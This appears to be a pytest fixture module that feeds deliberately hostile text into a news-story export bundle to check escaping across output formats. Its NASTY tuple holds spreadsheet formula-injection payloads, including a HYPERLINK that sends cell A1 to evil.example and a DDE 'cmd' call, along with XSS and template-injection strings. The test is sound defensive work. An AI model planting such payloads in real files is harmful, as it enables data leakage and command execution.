"""Stories on their way out: the dam, what is said to be coming to it, and one whose every word is meant to do harm."""

from __future__ import annotations

from collections.abc import Mapping

import msgspec
import pytest

from reportedly.desk.exports import Bundle
from reportedly.record import (
    Article,
    ChainLink,
    Change,
    Claim,
    Figure,
    FigurePoint,
    Instant,
    Method,
    Origin,
    Plan,
    Series,
    Source,
    Span,
    StatusOn,
    Story,
    StoryEntity,
    StoryStatement,
    StoryView,
    Text,
)

NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "＝1+1",
    "'=1",
    "''+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "](javascript:alert(1)) **bold** # no heading | a | b ``` {{ 7*7 }} <!-- --> &lt; ~~x~~",
    "bell \x07 escape \x1b[31m delete \x7f next line \x85 end \x9f",
    "left \u202ereversed\u202c isolate \u2066x\u2069 zero\u200bwidth\ufeff",
    "line \u2028 and paragraph \u2029 separators",
    "not in XML: \x01\x08\x0b \ufffe \uffff, and \U0001f4f0 \u0301",
    'quote " comma , semicolon ; backslash \\ percent % dollar $x$',
    "---\nkey: value\n...",
    "1. one 2) two",
    "_x000D_ _x0041_",
    "long " + "word " * 9000,
)
"""Words that mean something to a spreadsheet, to HTML, Markdown, YAML, XML, a terminal or a template engine."""


PLAN = Plan.of(Method(name="rules", version="3", digest="d1"), Method(name="figures", version="2", digest="d2"))


@pytest.fixture(scope="session")
def bundle(dam: StoryView, dam_texts: Mapping[str, Text]) -> Bundle:
    return Bundle(view=dam, texts=dam_texts, plans=dict.fromkeys(dam_texts, PLAN))


@pytest.fixture(scope="session")
def ahead_bundle(ahead: StoryView, ahead_texts: Mapping[str, Text]) -> Bundle:
    return Bundle(view=ahead, texts=ahead_texts)


@pytest.fixture(scope="session")
def empty_bundle(dam: StoryView) -> Bundle:
    """A story of one article in which nobody says anything."""
    parts = ("entities", "statements", "claims", "changes", "copies", "series")
    return Bundle(view=msgspec.structs.replace(dam, articles=dam.articles[:1], **dict.fromkeys(parts, ())))


@pytest.fixture(scope="session")
def hostile() -> Bundle:
    """A story in which the title, the outlet, the source, the cue and the content are words of NASTY."""
    articles, texts, statements, claims, changes = [], {}, [], [], []
    for at, words in enumerate(NASTY):
        article, text, statement = _article(at, words)
        articles.append(article)
        texts[text.id] = text
        statements.append(statement)
        claims.append(_claim(at, words, statement))
        changes.append(
            Change.of("new claim", "2031-03-03", claim=f"clm_{at}", statements=(statement.id,), articles=(article.id,),
                      text=words, before=words, after=words)
        )  # fmt: skip
    figure = Figure(id="fig_one", start=0, end=2, text=NASTY[0][:2], value=10**18, low=-2, counts=NASTY[2], unit="$")
    points = [
        FigurePoint(figure=msgspec.structs.replace(figure, id=f"fig_{said.id}", text=words), statement=said.id,
                    article=said.article, known_on="2031-03-03", source=words, stance="asserts")
        for words, said in zip(NASTY, statements, strict=True)
    ]  # fmt: skip
    names = tuple(NASTY)
    view = StoryView(
        story=Story(id="sty_nasty", headline=NASTY[0], as_of=None, since="2031-03-03", newest_change="2031-03-03",
                    articles=len(articles), outlets=len(articles), statements=len(statements), claims=len(claims)),
        articles=tuple(articles),
        entities=(StoryEntity(id="ent_nasty", name=NASTY[3], type="PERSON", names=names, articles=(articles[0].id,)),),
        statements=tuple(statements),
        claims=tuple(claims),
        changes=tuple(changes),
        copies=(),
        series=(Series(counts=NASTY[4], unit=None, points=tuple(points)),),
    )  # fmt: skip
    return Bundle(view=view, texts=texts)


def _article(at: int, words: str) -> tuple[Article, Text, StoryStatement]:
    body = f"{words}\nsource {words} cue {words} content {words} end"
    title = words
    url = f"https://evil.example/{at}?q=<\"'> \u202e\\"
    text = Text.of(text=body, title=title, outlet=words, url=url, published=Instant(value="2031-03-03", from_="meta"))
    starts = [body.index(f"{part} {words}") + len(part) + 1 for part in ("source", "cue", "content")]
    source, cue, content = (Span.of(body, start, start + len(words)) for start in starts)
    article = Article(
        id=f"art_{at}", text_id=text.id, revisions=(text.id,), input=words, title=title, outlet=words, byline=words,
        url=url, credits=(words,), language="en", published=text.published, updated=None, known_on="2031-03-03",
        known_from="inferred", known_note=words,
    )  # fmt: skip
    statement = StoryStatement(
        id=f"stm_{at}", kind="direct", stance="asserts", hedges=(words,), hedge_spans=(content.range,), confidence=0.5,
        source=Source(start=source.start, end=source.end, text=words, entity="ent_nasty" if at % 2 else None),
        cue=(cue,), content=(content,), chain=(ChainLink(text=words),), figures=(f"fig_stm_{at}",), article=article.id,
        text_id=text.id, known_on="2031-03-03", origin=words,
    )  # fmt: skip
    return article, text, statement


def _claim(at: int, words: str, statement: StoryStatement) -> Claim:
    origin = Origin(name=words, anonymous=False, statements=(statement.id,), outlets=(words,))
    return Claim(
        id=f"clm_{at}", label=words, label_statement=statement.id, status="denied", since="2031-03-03", reason=words,
        origins=(origin,), origins_low=1, origins_high=1, supports=(), hedges=(), denies=(statement.id,), declines=(),
        figures=(), history=(StatusOn(date="2031-03-03", status="denied", reason=words),),
    )  # fmt: skip
